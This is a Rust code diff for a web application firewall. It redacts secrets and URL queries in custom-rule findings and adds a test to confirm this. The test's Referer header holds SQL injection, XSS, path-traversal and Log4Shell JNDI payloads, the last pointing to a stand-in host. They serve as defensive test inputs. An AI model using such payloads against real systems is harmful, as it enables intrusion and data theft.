@@ -14,7 +14,7 @@ use crate::config::{Action, Mode, OverLimit, RouteWaf};
 use crate::detect::{self, api};
 use crate::extract::{self, BodyFacts};
 use crate::extract_rules::BODY_OVER_LIMIT;
-use crate::model::{Class, Finding, Location, Part, Target, exclusion_key, snippet};
+use crate::model::{Class, Finding, Location, Part, Target, evidence, exclusion_key, snippet};
 use crate::transform::Views;
 
 /// What is inspected.
@@ -305,21 +305,23 @@ fn run_custom(route: &RouteWaf, client_ip: IpAddr, targets: &[Target<'_>], out: 
         if rule.paranoia > route.paranoia {
             continue;
         }
-        // (value, target as shown, exclusion key)
-        let mut check = |value: &str, shown: String, key: &str, secret: bool, views: &mut Views| {
+        // (value, target as shown, exclusion key, the target — none for the client address)
+        let mut check = |value: &str,
+                         shown: String,
+                         key: &str,
+                         target: Option<&Target<'_>>,
+                         views: &mut Views| {
             views.load(value);
             let v = views.get(rule.view);
             let hit = match (rule.operator.find(v), rule.negate) {
-                (Some(m), false) => Some(snippet(m)),
-                (None, true) => Some(snippet(v)),
+                (Some(m), false) => Some(m),
+                (None, true) => Some(v),
                 _ => None,
             };
-            if let Some(snippet) = hit.map(|s| {
-                if secret {
-                    crate::model::redacted(&s)
-                } else {
-                    s
-                }
+            // Quoted as a built-in rule's finding is (secrets, URLs' queries).
+            if let Some(snippet) = hit.map(|m| match target {
+                Some(t) => evidence(t, m),
+                None => snippet(m),
             }) {
                 out.push(Finding {
                     rule: rule.id,
@@ -339,14 +341,13 @@ fn run_custom(route: &RouteWaf, client_ip: IpAddr, targets: &[Target<'_>], out: 
                 &ip_text,
                 "client_ip".to_string(),
                 "client_ip",
-                false,
+                None,
                 &mut views,
             );
         }
         for (t, key) in targets.iter().zip(&keys) {
             if t.part == Part::Value && rule.targets.iter().any(|p| p.matches(key)) {
-                let secret = crate::model::holds_secret(t);
-                check(&t.value, t.to_string(), key, secret, &mut views);
+                check(&t.value, t.to_string(), key, Some(t), &mut views);
             }
         }
     }
@@ -784,6 +785,84 @@ mod tests {
             out.findings.iter().any(|f| f.finding.rule == 1005),
             "{:?}",
             out.findings
+        );
+    }
+
+    /// A `Referer` whose query holds an OAuth code and an attack: every detector that finds
+    /// something in it, and a custom rule on it, quotes the URL without its query — the code
+    /// never reaches a finding, so never the audit log. The same request without the attack
+    /// finds nothing.
+    #[test]
+    fn no_finding_quotes_a_referers_query() {
+        let code = "SplxlOBeZQQYbYS6WxSbIA";
+        let referer = format!(
+            "https://app.example/cb?code={code}&next=1' UNION SELECT password FROM users-- \
+             <script>alert(1)</script> ../../../../etc/passwd ${{jndi:ldap://x.example/a}}"
+        );
+        let raw: crate::config::RawWaf = serde_yaml_ng::from_str(
+            "custom_rules:\n\
+             - {id: 100001, description: c, targets: ['header:referer'], operator: {contains: 'code='}}\n\
+             - {id: 100002, description: n, targets: ['header:referer'], operator: {equals: x}, negate: true}",
+        )
+        .unwrap();
+        let mut e = portcullis_core::ConfigErrors::new();
+        let route = crate::config::compile(&raw, &mut e);
+        assert!(e.is_empty(), "{e:?}");
+        let run = |referer: &str| {
+            let (head, ()) = http::Request::builder()
+                .method("GET")
+                .uri("/cb")
+                .header("referer", referer)
+                .body(())
+                .unwrap()
+                .into_parts();
+            inspect(
+                &route,
+                &Inspection {
+                    head: &head,
+                    path: "/cb",
+                    client_ip: "192.0.2.1".parse().unwrap(),
+                    body: BodyState::None,
+                },
+            )
+        };
+        let out = run(&referer);
+        assert!(out.blocked, "{:?}", out.findings);
+        let on_referer: Vec<&Finding> = out
+            .findings
+            .iter()
+            .map(|f| &f.finding)
+            .filter(|f| f.target == "header:referer")
+            .collect();
+        let classes: std::collections::HashSet<Class> =
+            on_referer.iter().map(|f| f.class).collect();
+        for class in [
+            Class::Sqli,
+            Class::Xss,
+            Class::Traversal,
+            Class::Log4Shell,
+            Class::Custom,
+        ] {
+            assert!(classes.contains(&class), "{class:?}: {on_referer:?}");
+        }
+        let hidden = referer.len() - referer.find('?').unwrap() - 1;
+        let want = format!("https://app.example/cb?[redacted: {hidden} characters]");
+        for f in &on_referer {
+            assert_eq!(f.snippet, want, "{f:?}");
+        }
+        // Without the attack: nothing but the custom rules.
+        let out = run(&format!("https://app.example/cb?code={code}&state=xyz"));
+        assert!(
+            out.findings
+                .iter()
+                .all(|f| f.finding.class == Class::Custom),
+            "{:?}",
+            out.findings
+        );
+        assert!(
+            out.findings
+                .iter()
+                .all(|f| !f.finding.snippet.contains(code))
         );
     }
 
